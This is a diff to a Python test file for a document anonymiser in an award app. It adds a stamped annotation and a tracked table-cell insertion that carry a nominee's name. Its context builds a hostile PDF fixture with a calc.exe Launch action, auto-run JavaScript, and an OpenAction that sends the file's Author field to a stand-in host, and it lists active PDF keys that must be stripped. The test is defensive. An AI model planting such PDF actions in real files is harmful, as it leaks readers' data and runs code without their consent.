@@ -13,8 +13,9 @@ from award_app.storage import LocalStorage
 from tests.nominations.factories import WORD
 from tests.sample_files import PDF, jpeg_with_artist, png_header_only
 
-NAMES = ("Mai Anh", "Nguyễn Thị", "Nguyen Thi", "Thành đoàn", "Trần Văn Bảo", "Bao Tran", "MaiAnh")
+NAMES = ("Mai Anh", "Nguyễn Thị", "Nguyen Thi", "Thành đoàn", "Trần Văn Bảo", "Bao Tran", "MaiAnh", "Lê Thị Cúc")
 VISIBLE = "Evidence of the river clean-up"
+STAMPED = "Received 12 March"  # drawn by an annotation: a printout shows it
 
 
 def names_in(text: str) -> list[str]:
@@ -65,7 +66,13 @@ def hostile_pdf() -> bytes:
     link = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                                 Rect=[0, 0, 5, 5], A=pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                                                                         F=pikepdf.String("calc.exe"))))
-    page.obj.Annots = pdf.make_indirect([note, popup, field, clip, link])
+    stamp_look = pdf.make_stream(f"BT /F1 9 Tf 2 2 Td ({STAMPED}) Tj ET".encode(), Type=pikepdf.Name.XObject,
+                                 Subtype=pikepdf.Name.Form, BBox=[0, 0, 200, 20],
+                                 Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)))
+    stamp = pdf.make_indirect(pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Stamp, Rect=[20, 250, 220, 270], F=4,
+        T=pikepdf.String("Lê Thị Cúc"), AP=pikepdf.Dictionary(N=stamp_look)))
+    page.obj.Annots = pdf.make_indirect([note, popup, field, clip, link, stamp])
     page.obj.AA = pikepdf.Dictionary(O=_javascript("app.alert(1)"))
     pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
     pdf.Root.OpenAction = _javascript("app.launchURL('http://x.example/?'+this.info.Author)")
@@ -102,7 +109,7 @@ def test_a_blind_pdf_copy_keeps_no_name_anywhere_and_the_page_as_it_looks():
     clean = cleaning.pdf_without_identity(io.BytesIO(hostile_pdf()))
     everything = everything_in(clean)
     assert names_in(everything) == []
-    assert VISIBLE in everything  # the page itself is kept
+    assert VISIBLE in everything and STAMPED in everything  # the page as a printout shows it is kept
     for active in ("/JavaScript", "/JS", "/OpenAction", "/AA", "/EmbeddedFile", "/Launch", "/FileAttachment"):
         assert active not in everything, active
     with pikepdf.open(io.BytesIO(clean)) as pdf:
@@ -140,7 +147,8 @@ DOCUMENT = (f'<w:document xmlns:w="{WORD}"><w:body>'
             '<w:p><w:ins w:id="1" w:author="Trần Văn Bảo" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Đã thêm</w:t></w:r>'
             '</w:ins><w:del w:id="2" w:author="Nguyễn Thị Mai Anh"><w:r><w:delText>Mai Anh</w:delText></w:r></w:del>'
             '<w:r><w:rPr><w:b/><w:rPrChange w:id="3" w:author="Bao Tran" w:initials="MaiAnh"><w:rPr/></w:rPrChange>'
-            '</w:rPr><w:t>Giữ lại</w:t></w:r></w:p></w:body></w:document>')
+            '</w:rPr><w:t>Giữ lại</w:t></w:r></w:p><w:tbl><w:tr><w:tc><w:tcPr><w:cellIns w:id="4" '
+            'w:author="Lê Thị Cúc"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl></w:body></w:document>')
 COMMENTS = (f'<w:comments xmlns:w="{WORD}"><w:comment w:id="0" w:author="Trần Văn Bảo" w:initials="TVB">'
             '<w:p><w:r><w:t>Mai Anh ơi, sửa chỗ này</w:t></w:r></w:p></w:comment></w:comments>')
 PEOPLE = ('<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person '
